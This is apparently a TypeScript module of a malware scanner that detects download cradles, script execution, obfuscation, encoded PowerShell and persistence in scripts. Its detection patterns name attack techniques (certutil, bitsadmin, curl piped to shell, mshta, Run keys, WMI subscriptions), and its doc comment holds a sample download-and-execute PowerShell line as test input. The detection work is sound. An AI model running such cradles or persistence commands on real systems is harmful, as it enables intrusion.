/**
 * Scripts: PowerShell, batch/cmd, VBScript, JScript/JavaScript, shell and HTA script blocks
 * (the HTML scanner hands those over as `script` children). A text object is taken when its
 * name has a script extension (a hint that is allowed for scripts: they are text, and what
 * runs them is the extension) or when its content reads like one of these languages.
 *
 * What it looks for, each category reported once with the patterns that matched in
 * `data.matches`:
 * - SCRIPT_DOWNLOAD_CRADLE: Net.WebClient / DownloadString, Invoke-WebRequest, BITS,
 *   XMLHTTP + ADODB.Stream, certutil -urlcache, bitsadmin, URLDownloadToFile, curl|wget piped
 *   to a shell, mshta/regsvr32 with a URL.
 * - SCRIPT_EXECUTION: Invoke-Expression, WScript.Shell Run/Exec, ShellExecute, hidden or
 *   policy-bypassing PowerShell, `cmd /c` from a script host, WMI process creation, VBScript
 *   Execute. Ordinary `Start-Process` or `cmd /c` in a batch file are not findings.
 * - SCRIPT_OBFUSCATION: eval(unescape/atob(...)), packers, obfuscator.io names, char-code
 *   arrays, carets and %var:~n,m% in batch, PowerShell tick and -f format tricks, encoded
 *   VBE/JSE, base64 payloads with a decoder, long high-entropy strings. Weak signals
 *   (concatenation, entropy, hex escapes) count only in pairs.
 * - SCRIPT_ENCODED_COMMAND: `powershell -enc <base64>`; the UTF-16LE command is decoded and
 *   emitted as a child script (`encoded-command-1.ps1`). Other base64 payloads next to a
 *   decoder are decoded too and emitted when they are text or a known binary format.
 * - SCRIPT_PERSISTENCE: Run keys, scheduled tasks, WMI event subscriptions, the Startup folder,
 *   services, crontab.
 *
 * In JavaScript, command lines of other interpreters (curl | sh, iex, hidden PowerShell,
 * certutil...) count only when the script can start a process (child_process, WScript...):
 * documentation search indexes and syntax highlighters quote them as text.
 *
 * Scores (docs/decisions.md): download 150, execution 150, obfuscation 150, encoded command
 * 200, persistence 100: one category alone stays CLN, download + execute is SUS; heuristics
 * alone never make a script MAL (that takes a signature).
 *
 * @example
 * const r = await runScanner(scriptScanner, Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"), { name: 'a.ps1' });
 * r.heuristics // ['SCRIPT_DOWNLOAD_CRADLE', 'SCRIPT_EXECUTION']
 */
import path from 'node:path';
import type { ChildSpec, Finding, SampleInfo, Scanner } from './types.ts';

export type ScriptLanguage = 'powershell' | 'batch' | 'vbscript' | 'javascript' | 'shell' | 'hta' | 'wsf';

/** Most bytes read from one script. */
export const SCRIPT_MAX_BYTES = 8 * 1024 * 1024;
const MAX_DECODED_CHILDREN = 10;
/** Lines are cut at this length before line-bounded patterns run (bounds their cost on minified text). */
const LINE_CUT = 4096;

const EXTENSIONS: Record<string, ScriptLanguage> = {
  ps1: 'powershell', psm1: 'powershell', psd1: 'powershell',
  bat: 'batch', cmd: 'batch',
  vbs: 'vbscript', vbe: 'vbscript', vba: 'vbscript',
  js: 'javascript', jse: 'javascript', mjs: 'javascript', cjs: 'javascript',
  sh: 'shell', bash: 'shell', zsh: 'shell', ksh: 'shell',
  hta: 'hta', wsf: 'wsf', wsh: 'wsf',
};

const ATTACK: Record<ScriptLanguage, string> = {
  powershell: 'T1059.001',
  vbscript: 'T1059.005',
  javascript: 'T1059.007',
  batch: 'T1059.003',
  shell: 'T1059.004',
  hta: 'T1218.005',
  wsf: 'T1059.005',
};

const SNIFF: Record<'powershell' | 'batch' | 'vbscript' | 'javascript', RegExp[]> = {
  powershell: [
    /\$[A-Za-z_][\w:]*\s*=[^=]/,
    /\b(Invoke-\w+|New-Object|Get-[A-Z]\w+|Set-[A-Z]\w+|Write-Host|Write-Output)\b/,
    /\bNet\.WebClient\b|\bInvoke-Expression\b|\bIEX\b|-EncodedCommand\b/i,
    /\[(System\.)?[\w.]+\]::\w+/,
    /\b(powershell|pwsh)(\.exe)?\b/i,
    /^\s*param\s*\(/im,
  ],
  batch: [/^\s*@?echo\s+off\b/im, /^\s*set\s+["\w]+=/im, /%~?dp0|%[A-Za-z_]\w*%/, /^\s*goto\s+:?\w+/im, /^\s*(rem|::)\s/im],
  vbscript: [/\bCreateObject\s*\(/i, /\bWScript\.Shell\b|\bADODB\.Stream\b/i, /^\s*Dim\s+\w+/im, /\bWScript\.\w+/i, /^\s*End\s+(Sub|Function|If)\b/im, /\bOn Error Resume Next\b/i, /^\s*Set\s+\w+\s*=/im],
  javascript: [/\bfunction\s*\w*\s*\([^)]*\)\s*\{/, /\b(var|let|const)\s+[\w$]+\s*=/, /\bnew\s+ActiveXObject\s*\(/i, /\b(document|window)\.\w+/, /\beval\s*\(/],
};

/** Extensions of documentation and other languages' sources, never sniffed as scripts. */
const DOC_EXTENSIONS = new Set(['md', 'markdown', 'rst', 'adoc', 'asciidoc', 'tex', 'org', 'pod', 'vim', 'el', 'py', 'rb', 'pl', 'pm', 'c', 'h', 'cc', 'cpp', 'hpp', 'java', 'go', 'rs', 'ts', 'tsx', 'css', 'scss', 'json', 'yaml', 'yml', 'toml', 'xml', 'csv', 'po', 'pot']);
/** Distinct language markers a text needs before it is taken for a script. */
const SNIFF_MIN = 3;

/** The language a sample is written in, from its extension, then its content; undefined: not a script. */
export function scriptLanguage(info: Pick<SampleInfo, 'name' | 'fileType'>, text: string): ScriptLanguage | undefined {
  const ext = path.extname(info.name.replace(/[?#].*$/, '')).slice(1).toLowerCase();
  if (EXTENSIONS[ext]) return EXTENSIONS[ext];
  if (text.startsWith('#@~^')) return 'vbscript';
  if (/^#!.*\b(ba|z|k|da)?sh\b/.test(text)) return 'shell';
  if (/^#!.*\b(pwsh|powershell)\b/.test(text)) return 'powershell';
  if (/^#!.*\bnode\b/.test(text)) return 'javascript';
  // Documentation talks about scripts; it does not run.
  if (DOC_EXTENSIONS.has(ext)) return undefined;
  const head = text.slice(0, 64 * 1024);
  let best: ScriptLanguage | undefined;
  let bestScore = SNIFF_MIN - 1;
  for (const [lang, res] of Object.entries(SNIFF) as [ScriptLanguage, RegExp[]][]) {
    const score = res.filter((r) => r.test(head)).length;
    if (score > bestScore) {
      best = lang;
      bestScore = score;
    }
  }
  return best;
}

// ---------------------------------------------------------------------------------------------
// Patterns

interface Rule {
  id: string;
  re: RegExp;
  /** All of these must match too. */
  and?: RegExp[];
  /** Only in these languages. */
  langs?: ScriptLanguage[];
  /** Not in these languages. */
  notLangs?: ScriptLanguage[];
  /**
   * The pattern is a command line of another interpreter (cmd, PowerShell, sh). In JavaScript
   * it is then only text (install notes in a docs search index, a help string) unless the
   * script can start a process.
   */
  commandLine?: true;
  attack?: string;
}

/**
 * JavaScript that can start a process: Node's child_process, Deno/Bun, or a Windows script host
 * object. A bare `spawn(` is not enough: documentation indexes quote Rust's `thread::spawn(`.
 */
const JS_RUNS_COMMANDS = /\bchild_process\b|\bspawn_sync\b|\bDeno\.(run|Command)\b|\bBun\.spawn|ActiveXObject|\bWScript\b|\bGetObject\s*\(|Shell\.Application/;

const DOWNLOAD: Rule[] = [
  { id: 'net_webclient', re: /\bNet\.WebClient\b/i },
  // JavaScript libraries have downloadFile() methods of their own: .NET casing only there.
  { id: 'webclient_download', re: /\.Download(String|File|Data)(Async|TaskAsync)?\s*\(/i, notLangs: ['javascript', 'shell'] },
  { id: 'webclient_download', re: /\.Download(String|File|Data)(Async|TaskAsync)?\s*\(/, langs: ['javascript'] },
  { id: 'invoke_webrequest', re: /\b(Invoke-WebRequest|Invoke-RestMethod)\b|\b(iwr|irm)\s+[-'"(]?\s*(https?:|\$)/i, commandLine: true },
  { id: 'bits', re: /\bStart-BitsTransfer\b|\bbitsadmin(\.exe)?\b[^\n]*\/(transfer|addfile)\b/i, commandLine: true },
  { id: 'xmlhttp_adodb', re: /\b(MSXML2|Microsoft)\.(Server)?XMLHTTP|WinHttp\.WinHttpRequest/i, and: [/ADODB\.Stream|responseBody|SaveToFile/i] },
  { id: 'certutil_urlcache', re: /\bcertutil(\.exe)?\b[^\n]*[-/](urlcache|verifyctl)\b/i, commandLine: true },
  { id: 'urldownloadtofile', re: /\bURLDownloadToFile[AW]?\b/i },
  { id: 'pipe_to_shell', re: /\b(curl|wget)\b[^\n|;]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(ba)?sh\s+<\(\s*(curl|wget)\b/i, commandLine: true },
  { id: 'mshta_url', re: /\bmshta(\.exe)?["']?\s+["']?(https?:|vbscript:|javascript:)/i, commandLine: true },
  { id: 'regsvr32_scriptlet', re: /\bregsvr32(\.exe)?\b[^\n]*\/i:\s*["']?https?:/i, commandLine: true },
];

const EXECUTION: Rule[] = [
  { id: 'invoke_expression', re: /\bInvoke-Expression\b|(^|[|;(&\s])iex\b\s*[(\s$'"]|\|\s*iex\b/im, commandLine: true },
  { id: 'wscript_shell', re: /WScript\.Shell/i, and: [/\.(Run|Exec)\b/i] },
  { id: 'shell_execute', re: /Shell\.Application/i, and: [/\bShellExecute\b/i] },
  { id: 'hidden_powershell', commandLine: true, re: /\b(powershell|pwsh)(\.exe)?["']?\s(?:[^\n]*?\s)?[-/](w(in(dow(style)?)?)?\s+["']?h(idden)?\b|nop(rofile)?\b|ep\s+bypass\b|exec(utionpolicy)?\s+bypass\b|noni(nteractive)?\b)/i },
  { id: 'start_process_hidden', re: /\bStart-Process\b[^\n]*-W(indowStyle)?\s+["']?Hidden\b/i, commandLine: true },
  { id: 'cmd_from_script_host', re: /\bcmd(\.exe)?["']?\s+\/[ck]\b/i, notLangs: ['batch', 'shell'] },
  { id: 'wmi_process_create', re: /\bwmic(\.exe)?\b[^\n]*\bprocess\s+call\s+create\b|Win32_Process["']?\)?\.Create\b|Invoke-WmiMethod[^\n]*Win32_Process/i },
  { id: 'vbscript_execute', re: /(^|[\s:])Execute(Global)?\s*[("]/im, langs: ['vbscript', 'hta', 'wsf'] },
  { id: 'rundll32_script', re: /\brundll32(\.exe)?\b[^\n]*\b(javascript|vbscript):/i, commandLine: true },
];

const PERSISTENCE: Rule[] = [
  { id: 'run_key', re: /\\Microsoft\\Windows\\CurrentVersion\\(Run|RunOnce|RunServices|Policies\\Explorer\\Run)\b/i, attack: 'T1547.001' },
  { id: 'scheduled_task', re: /\bschtasks(\.exe)?\b[^\n]*\/create\b|\b(Register-ScheduledTask|New-ScheduledTaskAction)\b|Schedule\.Service/i, attack: 'T1053.005' },
  { id: 'wmi_subscription', re: /__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding/i, attack: 'T1546.003' },
  { id: 'startup_folder', re: /\\Start Menu\\Programs\\Startup\b|shell:startup|SpecialFolders\(\s*["']Startup["']\s*\)/i, attack: 'T1547.001' },
  { id: 'service', re: /\bsc(\.exe)?\s+create\b|\bNew-Service\b/i, attack: 'T1543.003' },
  { id: 'crontab', re: /\bcrontab\s+(-[a-z]\s+)*-?\s*[^\n]*$|\/etc\/cron\.|\(crontab -l/im, langs: ['shell'], attack: 'T1053.003' },
];

function matches(rules: Rule[], text: string, lang: ScriptLanguage): Rule[] {
  let runs: boolean | undefined;
  return rules.filter((r) => {
    if (r.langs && !r.langs.includes(lang)) return false;
    if (r.notLangs?.includes(lang)) return false;
    if (r.commandLine && lang === 'javascript' && !(runs ??= JS_RUNS_COMMANDS.test(text))) return false;
    return r.re.test(text) && (r.and ?? []).every((a) => a.test(text));
  });
}

// ---------------------------------------------------------------------------------------------
// Obfuscation

export interface ObfuscationSignal {
  id: string;
  strong: boolean;
  detail?: string;
}

const count = (text: string, re: RegExp, max = 100_000): number => {
  let n = 0;
  const g = new RegExp(re.source, re.flags.includes('g') ? re.flags : re.flags + 'g');
  for (let m = g.exec(text); m && n < max; m = g.exec(text)) {
    n++;
    if (m[0].length === 0) g.lastIndex++;
  }
  return n;
};

/** Shannon entropy in bits per character. */
export function entropy(s: string): number {
  if (!s) return 0;
  const freq = new Map<string, number>();
  for (const c of s) freq.set(c, (freq.get(c) ?? 0) + 1);
  let h = 0;
  for (const n of freq.values()) {
    const p = n / s.length;
    h -= p * Math.log2(p);
  }
  return h;
}

// The lookbehind starts a match only where a run starts: without it, every position inside a
// run shorter than the minimum is tried again to its end (quadratic on long text).
const BASE64_RUN = /(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{200,}={0,2}/g;
const DECODERS = /FromBase64String|\batob\s*\(|base64\s+(-d|--decode)\b|certutil[^\n]*-decode\b|Base64Decode|DecodeBase64|bin\.base64/i;

/**
 * Obfuscation signals in script text (also used by the HTML scanner on inline scripts).
 * Strong signals are rarely seen in honest code; weak ones (concatenation, entropy, hex
 * escapes) only count in pairs.
 */
export function obfuscationSignals(text: string, lang?: ScriptLanguage): ObfuscationSignal[] {
  const out: ObfuscationSignal[] = [];
  const add = (id: string, strong: boolean, detail?: string) => out.push({ id, strong, ...(detail ? { detail } : {}) });
  if (text.startsWith('#@~^') || /#@~\^[A-Za-z0-9+/]{6}==/.test(text.slice(0, 4096))) add('encoded_script', true, 'Microsoft Script Encoder (VBE/JSE)');
  const ed = /\b(eval|execScript|document\.write(ln)?|Function)\s*\(\s*(window\.)?(unescape|atob|decodeURIComponent|decodeURI|escape|String\.fromCharCode)\s*\(/i.exec(text);
  if (ed) add('eval_decode', true, ed[0].slice(0, 80));
  if (/eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[rd]\s*\)/.test(text)) add('packer', true, 'Dean Edwards packer');
  const hexNames = count(text, /\b_0x[0-9a-f]{4,6}\b/i, 1000);
  if (hexNames >= 20) add('obfuscator_names', true, `${hexNames} _0x… identifiers`);
  const fcc = /fromCharCode\s*\(\s*((?:0x[0-9a-f]+|\d+)(?:\s*[,+\-*^]\s*(?:0x[0-9a-f]+|\d+)){19,})/i.exec(text);
  const chr = count(text, /\bChrW?\s*\(\s*\d+\s*\)/i, 1000);
  const psChar = count(text, /\[char\]\s*\(?\s*\d+/i, 1000);
  if (fcc || chr >= 20 || psChar >= 20) add('char_codes', true, fcc ? 'String.fromCharCode array' : `${Math.max(chr, psChar)} character codes`);
  // cmd.exe's escape character (XOR elsewhere) and its substring expansion.
  const batchish = lang === undefined || lang === 'batch';
  const carets = batchish ? count(text, /[A-Za-z]\^(?=[A-Za-z])/, 1000) : 0;
  if (carets >= 20) add('caret_escapes', true, `${carets} ^ inside words`);
  const substrings = batchish ? count(text, /%[A-Za-z_]\w*:~-?\d+(,-?\d+)?%/, 1000) : 0;
  if (substrings >= 10) add('env_substrings', true, `${substrings} %var:~n,m% extractions`);
  // PowerShell's escape character; JavaScript template literals and Markdown use it honestly.
  const ticks = lang === 'javascript' || lang === 'shell' ? 0 : count(text, /[A-Za-z]`[cdghijklmopqsuwxyzCDGHIJKLMOPQSUWXYZ]/, 1000);
  if (ticks >= 6) add('powershell_ticks', true, `${ticks} tick escapes inside words`);
  if (/\(\s*["'](\{\d+\}){3,}["']\s*-f\b/i.test(text)) add('format_operator', true, '"{2}{0}{1}" -f reordering');
  if (/\$env:comspec\s*\[|\$(pshome|shellid)\s*\[\s*\d+/i.test(text)) add('env_char_pick', true, 'characters picked from environment strings');
  const b64 = new RegExp(BASE64_RUN.source).exec(text);
  // JavaScript bundles inline workers and WebAssembly this way: only a weak signal there.
  if (b64 && DECODERS.test(text)) add('base64_payload', lang !== 'javascript', `${b64[0].length}-character base64 run next to a decoder`);

  const splits = count(text, /(["'])[^"'\n\\]{1,3}\1\s*[+&]\s*["']/, 10_000);
  if (splits >= 30 && splits * 200 >= Math.min(text.length, 200_000) / 10) add('string_splitting', false, `${splits} tiny string concatenations`);
  const hexEsc = count(text, /\\x[0-9a-f]{2}|\\u00[0-9a-f]{2}|%[0-9a-f]{2}/i, 10_000);
  if (hexEsc >= 200) add('hex_escapes', false, `${hexEsc} escaped characters`);
  const payloadSeen = out.some((o) => o.id === 'base64_payload');
  for (const m of text.matchAll(/["'`]([^"'`\n]{1000,})["'`]|(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{2000,}/g)) {
    const s = (m[1] ?? m[0]).slice(0, 8192);
    // In minified code the text between two string literals' quotes is code, not a string:
    // encoded payloads carry almost no code punctuation (measured: ~0 % against 15-20 %).
    if (count(s, /[;(){}=,\s]/, s.length) >= s.length * 0.05) continue;
    // A base64 blob already counted as a payload (an inlined worker or WebAssembly module)
    // is the same evidence, not a second signal.
    if (payloadSeen && /^[A-Za-z0-9+/=]+$/.test(s)) continue;
    const h = entropy(s);
    if (h >= 5.0) {
      add('high_entropy_string', false, `${(m[1] ?? m[0]).length} characters at ${h.toFixed(2)} bits/char`);
      break;
    }
  }
  return out;
}

/** Strong signals count alone, weak ones in pairs. */
export function isObfuscated(signals: ObfuscationSignal[]): boolean {
  return signals.some((s) => s.strong) || signals.filter((s) => !s.strong).length >= 2;
}

// ---------------------------------------------------------------------------------------------
// Encoded payloads

const ENCODED_COMMAND =
  /\b(?:powershell|pwsh)(?:\.exe)?["']?\s(?:[^\n]{0,300}?\s)?["']?[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcommand)\s+["']?([A-Za-z0-9+/]{16,}={0,2})/gi;

/** Decodes base64 as UTF-16LE (what -EncodedCommand takes) or UTF-8 when that reads as text. */
export function decodeBase64Text(b64: string): string | undefined {
  const raw = Buffer.from(b64, 'base64');
  if (raw.length < 4) return undefined;
  if (raw.length % 2 === 0 && printableRatio(raw.toString('utf16le')) > 0.95) return raw.toString('utf16le');
  const utf8 = raw.toString('utf8');
  return printableRatio(utf8) > 0.95 ? utf8 : undefined;
}

function printableRatio(s: string): number {
  if (!s) return 0;
  let ok = 0;
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (c === 9 || c === 10 || c === 13 || (c >= 32 && c !== 0xfffd && c < 0xd800)) ok++;
  }
  return ok / s.length;
}

const BINARY_MAGIC: [string, Buffer][] = [
  ['pe', Buffer.from('MZ')],
  ['zip', Buffer.from('PK\x03\x04', 'latin1')],
  ['pdf', Buffer.from('%PDF-')],
  ['elf', Buffer.from('\x7fELF', 'latin1')],
  ['gzip', Buffer.from([0x1f, 0x8b])],
  ['ole', Buffer.from([0xd0, 0xcf, 0x11, 0xe0])],
];

// ---------------------------------------------------------------------------------------------
// Scanner

/** Decodes the bytes of a script: UTF-16 with a BOM, else UTF-8. */
export function scriptText(b: Buffer): string {
  if (b[0] === 0xff && b[1] === 0xfe) return b.subarray(2).toString('utf16le');
  if (b[0] === 0xfe && b[1] === 0xff) {
    const s = Buffer.from(b.subarray(2, 2 + ((b.length - 2) & ~1)));
    s.swap16();
    return s.toString('utf16le');
  }
  if (b[0] === 0xef && b[1] === 0xbb && b[2] === 0xbf) return b.subarray(3).toString('utf8');
  return b.toString('utf8');
}

const TEXT_TYPES = new Set(['text', 'script']);

export const scriptScanner: Scanner = {
  name: 'script',
  version: '1',
  layer: 'document',
  accepts(info) {
    if (info.kind !== 'file') return false;
    const ext = path.extname(info.name).slice(1).toLowerCase();
    // An HTA is HTML that runs with the user's rights; a WSF is XML around script blocks.
    if (info.fileType === 'html') return ext === 'hta';
    if (info.fileType === 'xml') return ext === 'wsf' || ext === 'wsh';
    // Other text: the content decides in scan() when the name gives no hint.
    return TEXT_TYPES.has(info.fileType);
  },
  async scan(input, ctx) {
    const { info } = input;
    const truncated = info.size > SCRIPT_MAX_BYTES;
    const bytes = truncated ? await input.head(SCRIPT_MAX_BYTES) : await input.bytes(SCRIPT_MAX_BYTES);
    const full = scriptText(bytes);
    const lang = scriptLanguage(info, full);
    if (!lang) return { attributes: { scriptLanguage: null } };
    const evidence: Finding[] = [];
    const attack = ATTACK[lang];
    const text = cutLines(full);

    const downloads = matches(DOWNLOAD, text, lang);
    if (downloads.length) {
      evidence.push({ heuristic: 'SCRIPT_DOWNLOAD_CRADLE', details: downloads.map((r) => r.id).join(', '), data: { language: lang, matches: downloads.map((r) => r.id), excerpt: excerpt(text, downloads[0].re) } });
    }
    const executions = matches(EXECUTION, text, lang);
    // A download piped to a shell or handed to mshta/regsvr32 runs it too.
    const implied = downloads.filter((r) => r.id === 'pipe_to_shell' || r.id === 'mshta_url' || r.id === 'regsvr32_scriptlet');
    if (executions.length || implied.length) {
      const ids = [...executions, ...implied].map((r) => r.id);
      evidence.push({ heuristic: 'SCRIPT_EXECUTION', details: ids.join(', '), data: { language: lang, matches: ids, attack, excerpt: excerpt(text, (executions[0] ?? implied[0]).re) } });
    }
    const signals = obfuscationSignals(full, lang);
    if (isObfuscated(signals)) {
      evidence.push({ heuristic: 'SCRIPT_OBFUSCATION', details: signals.map((s) => s.detail ?? s.id).slice(0, 5).join('; '), data: { language: lang, signals } });
    }
    const persistence = matches(PERSISTENCE, text, lang);
    if (persistence.length) {
      evidence.push({ heuristic: 'SCRIPT_PERSISTENCE', details: persistence.map((r) => r.id).join(', '), data: { language: lang, matches: persistence.map((r) => r.id), attack: persistence.map((r) => r.attack) } });
    }

    // Encoded commands and base64 payloads, decoded as children.
    const children: ChildSpec[] = [];
    const seen = new Set<string>();
    const commands: string[] = [];
    for (const m of full.matchAll(ENCODED_COMMAND)) {
      if (seen.has(m[1]) || children.length >= MAX_DECODED_CHILDREN) continue;
      seen.add(m[1]);
      const decoded = decodeBase64Text(m[1]);
      if (!decoded) continue;
      commands.push(decoded.slice(0, 200));
      children.push({ name: `encoded-command-${commands.length}.ps1`, relation: 'script', data: Buffer.from(decoded, 'utf8'), meta: { encoding: 'base64/utf-16le' } });
    }
    if (commands.length) {
      evidence.push({ heuristic: 'SCRIPT_ENCODED_COMMAND', details: `${commands.length} encoded PowerShell command(s): ${commands[0].slice(0, 100)}`, data: { count: commands.length, decodedPreview: commands.slice(0, 5) } });
    }
    if (DECODERS.test(text)) {
      let n = 0;
      for (const m of full.matchAll(BASE64_RUN)) {
        if (children.length >= MAX_DECODED_CHILDREN || m[0].length > 16 * 1024 * 1024) break;
        if (seen.has(m[0])) continue;
        seen.add(m[0]);
        const raw = Buffer.from(m[0], 'base64');
        const magic = BINARY_MAGIC.find(([, sig]) => raw.subarray(0, sig.length).equals(sig));
        const decodedText = magic ? undefined : decodeBase64Text(m[0]);
        if (!magic && !decodedText) continue;
        n++;
        const ext = magic ? 'bin' : path.extname(info.name).slice(1).toLowerCase() || 'txt';
        children.push({ name: `decoded-${n}.${ext}`, relation: magic ? 'embedded_object' : 'script', data: magic ? raw : Buffer.from(decodedText!, 'utf8'), meta: { encoding: 'base64', ...(magic ? { type: magic[0] } : {}) } });
      }
    }
    let emitted = 0;
    for (const c of children) {
      const answer = await ctx.emitChild(c);
      if (answer !== true) {
        evidence.push({ heuristic: 'NOT_FULLY_SCANNED', details: `decoded payload not scanned: ${answer} limit`, data: { refused: answer, name: c.name } });
        break;
      }
      emitted++;
    }
    return { evidence, attributes: { scriptLanguage: lang, ...(truncated ? { scriptTruncatedAt: SCRIPT_MAX_BYTES } : {}), decodedChildren: emitted } };
  },
};

/** Breaks lines longer than LINE_CUT so that `[^\n]*` patterns stay linear on minified text. */
function cutLines(text: string): string {
  return text.replace(new RegExp(`[^\\n]{${LINE_CUT}}`, 'g'), '$&\n');
}

function excerpt(text: string, re: RegExp): string | undefined {
  const m = re.exec(text);
  if (!m) return undefined;
  const start = Math.max(0, m.index - 40);
  return text.slice(start, Math.min(text.length, m.index + m[0].length + 80)).replace(/\s+/g, ' ').slice(0, 240);
}

/** For tests and the HTML scanner: the rule ids that match a text, per category. */
export function scriptFindings(text: string, lang: ScriptLanguage): { download: string[]; execution: string[]; persistence: string[] } {
  text = cutLines(text);
  return {
    download: matches(DOWNLOAD, text, lang).map((r) => r.id),
    execution: matches(EXECUTION, text, lang).map((r) => r.id),
    persistence: matches(PERSISTENCE, text, lang).map((r) => r.id),
  };
}
